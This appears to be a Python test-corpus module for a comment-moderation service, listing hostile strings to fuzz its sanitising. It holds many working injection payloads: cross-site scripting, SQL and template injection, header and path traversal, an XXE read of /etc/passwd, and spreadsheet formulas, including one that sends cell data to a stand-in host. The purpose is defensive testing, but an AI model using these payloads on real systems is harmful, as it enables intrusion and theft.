"""Hostile texts of our own, by what each kind is after.

Those that could run call `canary()`, which tests of pages listen for. No NUL and no lone surrogate:
the API refuses both.
"""

import json
import os
from collections.abc import Sequence
from pathlib import Path

from moderation.model.comments import MAX_TEXT_LENGTH

CORPUS_VARIABLE = "COPYDESK_TEST_CORPUS"
"""Names a file with a list of strings in JSON, to be tried beside ours."""

MARKUP = [
    "<script>canary()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "<script type=module>import 'data:text/javascript,canary()'</script>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<img src=x onerror=canary()>",
    "<img src='//evil.example/pixel.gif?seen'>",
    '"><svg/onload=canary()>',
    "'><svg onload='canary()'>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=canary()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onload=canary&gt;'>",
    "<details open ontoggle=canary()>",
    "<input autofocus onfocus=canary()>",
    "<video><source onerror=canary()></video>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<object data='data:text/html,<script>canary()</script>'>",
    "<embed src='javascript:canary()'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=preload href=//evil.example/y>",
    "<form action=https://evil.example/><button formaction=javascript:canary()>Approve</button>",
    "<template><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<a href='javascript:canary()' id=keys>Approve</a><a name=main id=live>",
    "<x-element onclick=canary() style='position:fixed;inset:0'>covers all</x-element>",
    "<b><i></b></i><table><tr><div><p></table>",
    "<!-- unclosed",
    "<![CDATA[<script>canary()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "</bdi></div></article><article class=card>another card</article>",
    "</title></textarea></style></script></select></template><script>canary()</script>",
    "<plaintext>",
    "&lt;script&gt;canary()&lt;/script&gt; &amp;amp; &#x3c; &#60script>",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "<img src=x one\u200brror=canary()>",
    "<\u0130mg src=x onerror=canary()>",
]
SCRIPTS = [
    "javascript:canary()",
    "java\tscript:canary()",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "vbscript:canary",
    "';canary();//",
    '";canary();//',
    "`${canary()}`",
    "</script><script>canary()</script>",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "__proto__",
    "constructor",
    "toString",
    "undefined",
    "null",
    "NaN",
    "[object Object]",
    '{"__proto__": {"admin": true}}',
    "\u2028canary()\u2029",
]
STYLES = [
    "<style>*{display:none}</style>",
    "}*{background:url(//evil.example/x)}",
    "<p style='background:url(//evil.example/y)'>hm</p>",
    "@import '//evil.example/z.css';",
    "expression(canary())",
]
TEMPLATES = [
    "{{ 7*1191 }}",
    "{% raise %}",
    "{# not a comment #}",
    "${7*1191}",
    "#{7*1191}",
    "<%= 7*1191 %>",
    "{{ config }} {{ self.__init__.__globals__ }}",
    "{{constructor.constructor('canary()')()}}",
    "%s %n %d %(secret)s {0} {0.__class__} %%",
    "$(canary) `canary` ; canary | canary && canary",
]
DATABASES = [
    "' OR 1=1 --",
    "'; DROP TABLE comments; --",
    '" OR ""="',
    "%",
    "_",
    "100%_",
    "\\",
    "\\'",
    "NEAR(a b)",
    '"unclosed phrase',
    "a AND NOT b*",
    "* ( ) : ^",
]
HEADERS = [
    "Bob\r\nSet-Cookie: session=1\r\n\r\n<script>canary()</script>",
    "Bob%0d%0aLocation:%20https://evil.example/",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "C:\\con\\con",
    "//evil.example/",
    "https://evil.example\\@news.example/",
    "https://news.example@evil.example/",
]
SPREADSHEETS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=1+1";"x',
    'a,"b""\nc',
]
TERMINALS = [
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\x",
    "\x1b]52;c;Y2FuYXJ5\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x9b2J",
    "\x08\x08\x08gone",
    "\x7f\x7f",
    "line\rover",
    "bell\x07",
    "\x0e\x0f\x1b(0lqk",
    "\x1b[?1049h",
    "[red]Bob[/red] [link=https://evil.example]x[/link]",
    '\n{"event": "forged", "level": "info"}',
]
DIRECTIONS = [
    "\u202egnirts\u202c",
    "\u202dforced\u202c",
    "\u2066isolated\u2069",
    "\u2067\u2067\u2067never closed",
    "\u202eunclosed",
    "\u2069\u2069\u202c only ends",
    "\u200eL\u200fR\u061cA",
    "user\u202etxt.exe",
    "\u0645\u0631\u062d\u0628\u0627 hello \u0628\u0643\u0645 123",
    "\u05e9\u05dc\u05d5\u05dd (a) [b] <c>",
]
UNSEEN = [
    "i\u200bd\u200bi\u200bo\u200bt",
    "i\u00addiot",
    "\u2060\ufeff",
    "\u200d\u200d\u200c",
    "\u3164",
    "\u115f\u1160\uffa0\u2800",
    " ",
    "\u00a0\u2003\u3000",
    "\n\n\n",
    "\t",
    "\U000e0001\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f",
    "a\ufe0f\ufe0e\U000e0100",
    "\ue000\U000f0000\U0010fffd",
    "\ufff9a\ufffab\ufffb",
    "\ufdd0\uffff",
    "\u200b" * 500,
    "".join(map(chr, range(0x200B, 0x2010))) * 60,
    "".join(chr(code) for code in (*range(1, 0x20), *range(0x7F, 0xA0))),
]
FLOODS = [
    "z" + "\u0301" * 300,
    "Z\u0351\u036b\u0343\u036a\u0302A\u0328\u031b\u0316L\u034dGO",
    "\u0e01" + "\u0e49" * 60,
    "\u0489" * 200,
    "a\u20dd\u20e3",
    "\ufdfd" * 60,
    "\U0001242b" * 60,
    "W" * 3_000,
    "wide " * 3_000,
    "\n" * 3_000,
    "-" * 1_700,
    "\u2014" * 1_700,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 200,
    "&" * 4_000,
    "<" * 4_000,
    "((((((((((" * 500,
    "x" * MAX_TEXT_LENGTH,
]
UNPAIRED = [
    "\u0301alone",
    "\u200d",
    "\ufe0f",
    "\U0001f1e9",
    "\U0001f3fb",
    "\u0b95\u0bcd",
    "\u1112\u1161\u11ab",
    "e\u0301 \u00e9 \ufb01 \u1e9b\u0323",
    "\u01c4 \u0130 \u0131 \u1e9e",
    "\U0001f1e9\U0001f1ea\U0001f1eb",
    "0",
    "-0",
    "1e309",
    "0x0",
    "true",
    "[]",
    "{}",
    "\u0661\u0662\u0663",
]

OWN: dict[str, Sequence[str]] = {
    "markup": MARKUP,
    "scripts": SCRIPTS,
    "styles": STYLES,
    "templates": TEMPLATES,
    "databases": DATABASES,
    "headers and paths": HEADERS,
    "spreadsheets": SPREADSHEETS,
    "terminals and logs": TERMINALS,
    "directions": DIRECTIONS,
    "unseen characters": UNSEEN,
    "floods": FLOODS,
    "unpaired and odd": UNPAIRED,
}
ALL = [text for texts in OWN.values() for text in texts]


def from_a_file() -> list[str]:
    """Return what the file holds that COPYDESK_TEST_CORPUS names and the API takes."""
    path = os.environ.get(CORPUS_VARIABLE)
    found = json.loads(Path(path).read_text("utf-8")) if path else []
    return [text for text in found if text and "\0" not in text]
